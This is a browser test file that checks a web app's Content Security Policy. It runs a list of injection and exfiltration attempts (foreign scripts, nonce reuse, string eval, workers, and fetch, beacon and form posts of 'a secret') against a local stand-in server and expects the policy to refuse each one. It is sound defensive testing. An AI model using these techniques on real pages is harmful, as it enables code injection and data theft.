import { once } from 'node:events';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, test } from '../suite/test.ts';

test.use({ account: 'staff@seaview.test', provoked: /Content Security Policy/ });

let foreign: Server;
let address: string;
const requested: string[] = [];

test.beforeAll(async () => {
  foreign = createServer((request, response) => {
    requested.push(request.url ?? '');
    response.setHeader('access-control-allow-origin', '*');
    response.setHeader('content-type', 'text/javascript');
    response.end('globalThis.foreignCode = true;');
  }).listen(0, 'localhost');
  await once(foreign, 'listening');
  address = `http://localhost:${(foreign.address() as AddressInfo).port}`;
});
test.afterAll(() => foreign.close());

const attempts: Record<string, (address: string, nonce: string) => unknown> = {
  'a script element': (address) => {
    const script = Object.assign(document.createElement('script'), { src: `${address}/script.js` });
    document.body.append(script);
  },
  'a script element with the nonce of the page': (address, nonce) => {
    const script = Object.assign(document.createElement('script'), { src: `${address}/nonce.js`, nonce });
    document.body.append(script);
  },
  'inline code with the nonce of the page': (_address, nonce) => {
    const script = Object.assign(document.createElement('script'), { nonce });
    script.textContent = 'globalThis.foreignCode = true;';
    document.body.append(script);
  },
  'an import': (address) => {
    const script = Object.assign(document.createElement('script'), { type: 'module' });
    script.textContent = `import '${address}/import.js';`;
    document.body.append(script);
  },
  'a module that is preloaded': (address, nonce) => {
    const link = { rel: 'modulepreload', href: `${address}/preload.js`, nonce };
    document.head.append(Object.assign(document.createElement('link'), link));
  },
  'text that is written into the page': (address, nonce) => {
    document.body.insertAdjacentHTML(
      'beforeend',
      `<div onclick="globalThis.foreignCode = true" id="written"></div>`,
    );
    document.getElementById('written')?.click();
    const range = document.createRange();
    range.selectNode(document.body);
    const html = `<script nonce="${nonce}" src="${address}/written.js"></script>`;
    document.body.append(range.createContextualFragment(html));
  },
  'text that is evaluated': () => {
    // oxlint-disable-next-line typescript/no-implied-eval -- the policy of the page has to refuse it
    setTimeout('globalThis.foreignCode = true');
  },
  'a worker': (address, nonce) => {
    const source = new Blob([`importScripts('${address}/worker.js?${nonce}')`], { type: 'text/javascript' });
    void new Worker(URL.createObjectURL(source));
  },
  'a frame': (address) => {
    document.body.append(Object.assign(document.createElement('iframe'), { src: `${address}/frame` }));
  },
  'an image': (address) => {
    document.body.append(Object.assign(document.createElement('img'), { src: `${address}/image` }));
  },
  'a request': (address) => fetch(`${address}/request`, { method: 'POST', body: 'a secret' }),
  'a beacon': (address) => void navigator.sendBeacon(`${address}/beacon`, 'a secret'),
  'a form': (address) => {
    const form = Object.assign(document.createElement('form'), { action: `${address}/form`, method: 'post' });
    document.body.append(form);
    form.submit();
  },
};

test('code of a remote reaches no other origin by what the browser can refuse', async ({ page, shell }) => {
  await page.goto('/reports');
  await shell.menu.waitFor();
  const nonce = await page.evaluate(() => document.querySelector<HTMLElement>('[nonce]')?.nonce ?? '');
  expect(nonce).not.toBe('');
  for (const [name, attempt] of Object.entries(attempts)) {
    await test.step(name, async () => {
      const refused = page.evaluate(
        () =>
          new Promise<string>((resolve) =>
            document.addEventListener(
              'securitypolicyviolation',
              (event) => resolve(event.effectiveDirective),
              {
                once: true,
              },
            ),
          ),
      );
      const args = [address, nonce].map((value) => JSON.stringify(value)).join();
      await page.evaluate(
        `Promise.resolve((${attempt.toString()})(${args})).then(() => undefined, () => undefined)`,
      );
      expect(await refused).not.toBe('');
      expect(requested).toEqual([]);
      expect(await page.evaluate(() => 'foreignCode' in globalThis)).toBe(false);
    });
  }
});
